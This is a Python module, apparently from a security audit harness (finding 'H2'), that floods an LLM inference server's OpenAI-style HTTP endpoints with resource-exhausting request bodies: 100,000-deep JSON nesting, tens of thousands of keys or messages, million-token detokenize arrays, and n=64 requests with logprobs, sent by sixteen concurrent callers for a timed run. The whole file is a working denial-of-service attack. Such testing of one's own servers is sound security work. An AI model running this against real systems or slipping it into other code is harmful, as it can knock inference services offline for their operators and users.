"""HTTP bodies with a high cost per byte: deep nesting, many keys, numbers or samples."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import time

from ..attack import Attack, Seen, Target

CALLERS = 16
DEEP = 100_000
BODIES: tuple[tuple[str, bytes], ...] = (
    ("/v1/completions", b"[" * DEEP),
    ("/v1/chat/completions", b'{"messages":' + b'[{"content":' * 20_000),
    ("/v1/completions", json.dumps({f"k{at}": at for at in range(50_000)}).encode()),
    ("/v1/completions", json.dumps({"prompt": ["a"] * 50_000, "max_tokens": 1}).encode()),
    ("/v1/completions", json.dumps({"prompt": "a", "n": 64, "max_tokens": 300, "stream": True}).encode()),
    ("/v1/chat/completions", json.dumps({"messages": [{"role": "user", "content": "a"}] * 20_000}).encode()),
    ("/v1/chat/completions", json.dumps({"messages": [], "tools": [{"type": "function"}] * 20_000}).encode()),
    ("/v1/embeddings", json.dumps({"input": [[1] * 100] * 2_000}).encode()),
    ("/detokenize", json.dumps({"tokens": [7] * 1_000_000}).encode()),
    (
        "/v1/rerank",
        json.dumps({"query": "q" * 900_000, "documents": ["d"] * 1_000, "yes": "a", "no": "b"}).encode(),
    ),
    ("/tokenize", json.dumps({"prompt": "\ufffd" * 100_000}).encode()),
    ("/v1/completions", b'{"prompt": "a", "logit_bias": {' + b'"1":1,' * 50_000 + b'"2":1}}'),
    (
        "/v1/completions",
        json.dumps({"prompt": [7] * 3000, "n": 64, "max_tokens": 1, "logprobs": 20, "echo": True}).encode(),
    ),
    (
        "/v1/chat/completions",
        json.dumps(
            {
                "messages": [{"role": "user", "content": "a"}],
                "n": 64,
                "max_tokens": 400,
                "logprobs": True,
                "top_logprobs": 20,
            }
        ).encode(),
    ),
)


async def attack(target: Target, seen: Seen) -> None:
    end = time.monotonic() + target.seconds
    host, _, port = target.http.rpartition(":")
    bodies = itertools.cycle(BODIES)

    async def loop() -> None:
        while (left := end - time.monotonic()) > 0:
            path, body = next(bodies)
            head = (
                f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nconnection: close\r\n"
                f"authorization: Bearer {target.token}\r\ncontent-length: {len(body)}\r\n\r\n"
            )
            with contextlib.suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(host, int(port))
                writer.write(head.encode() + body)
                answer = await asyncio.wait_for(reader.read(), left + 5)
                writer.close()
                seen[f"HTTP {answer[9:12].decode()}"] += 1

    await asyncio.gather(*(loop() for _ in range(CALLERS)))


ATTACK = Attack(name="http-bodies", finding="H2", run=attack)
